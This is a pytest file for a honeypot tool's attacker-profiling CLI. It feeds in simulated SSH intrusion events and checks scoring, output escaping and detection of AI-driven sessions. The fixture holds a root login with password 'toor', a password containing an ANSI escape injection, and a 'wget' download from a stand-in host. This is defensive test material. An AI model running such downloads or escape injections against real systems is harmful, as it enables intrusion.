# SPDX-License-Identifier: MIT
"""`decnet attackers` and `decnet attacker` after a real profiler and a real ttp worker handled real events."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from tests.decnet.command_result import Run

from decnet.fleet.deployment import Deployment, transaction
from decnet_core.events.catalogue import CommandRun, LoginAttempt, SessionClosed, SessionOpened
from decnet_core.events.typing_digest import TypingDigest
from decnet_core.runtime.worker import NoSettings
from decnet_models.events.queries import events_after
from decnet_models.following.cursor_worker import EventBatch
from decnet_models.intel.queries import Finding, keep
from decnet_workers.profiler.worker import Profiler

TYPING = TypingDigest(pasted=6, lines=6, pauses=(0, 0, 0, 0, 0, 0, 0, 0, 1, 2, 2))
"""Whole lines after pauses of one to eight seconds."""


@pytest.fixture
def _intruder(deployment: Deployment, store: Callable[..., None]) -> None:
    store(
        LoginAttempt(service="ssh", username="root", password="\x1b[31mred", success=False),
        LoginAttempt(service="ssh", username="root", password="toor", success=True),
        SessionOpened(service="ssh", username="root"),
        CommandRun(service="ssh", command="wget http://198.51.100.1/x"),
        SessionClosed(service="ssh", duration_ms=4200, commands=1, recording="ab" * 32, typing=TYPING),
    )
    with transaction(deployment, write=True) as connection:
        Profiler(NoSettings()).handle(EventBatch(connection, events_after(connection, 0, 100)))


@pytest.mark.usefixtures("_intruder")
def test_attackers_are_listed_with_score(run: Run) -> None:
    assert "192.0.2.7" in run("attackers").out
    (one,) = run("attackers", "--json").document
    assert (one["ip"], one["logins"], one["logins_accepted"]) == ("192.0.2.7", 2, 1)
    assert one["score"] > 0


@pytest.mark.usefixtures("_intruder")
def test_attacker_page_explains_the_score_and_escapes(run: Run) -> None:
    said = run("attacker", "192.0.2.7")
    assert said.code == 0
    assert "\x1b" not in said.out
    for text in ("points", "toor", r"\x1b[31mred", "wget http://198.51.100.1/x", "abababababababab"):
        assert text in said.out


@pytest.mark.usefixtures("_intruder")
def test_attacker_document_has_everything(run: Run) -> None:
    found = run("attacker", "192.0.2.7", "--json").document
    assert sum(term["points"] for term in found["terms"]) == found["attacker"]["score"]
    assert {"sessions", "credentials", "commands", "techniques", "canary_hits"} <= set(found)


def test_unknown_address_is_not_found(run: Run, deployment: Deployment) -> None:
    said = run("attacker", "192.0.2.99")
    assert said.code == 1
    assert "never seen" in said.err


def test_an_invalid_address_is_reported(run: Run, deployment: Deployment) -> None:
    said = run("attacker", "not-an-address")
    assert said.code == 2
    assert said.err == "decnet: 'not-an-address' is not an IPv4 or IPv6 address\n"


def test_the_list_of_no_attackers_says_so(run: Run, deployment: Deployment) -> None:
    assert run("attackers").out == "nobody yet\n"


@pytest.mark.usefixtures("_intruder")
def test_attacker_page_tells_the_session_and_who_typed(run: Run, deployment: Deployment) -> None:
    with transaction(deployment, write=True) as connection:
        found = Finding("192.0.2.7", "mmdb", "unknown", (), {"country": "DE", "asn": 60729}, 1, 2)
        keep(connection, [found])
    said = run("attacker", "192.0.2.7")
    assert "A language model was on web-01 over ssh as root for 4 s, entered 1 command" in said.out
    assert "fetched files (wget)" in said.out
    assert "6 lines, each sent whole after a pause of about 3 s" in said.out
    assert "country DE, asn 60729" in said.out
    (story,) = run("attacker", "192.0.2.7", "--json").document["stories"]
    assert (story["session"], story["typist"]["name"]) == ("session-1", "language model")
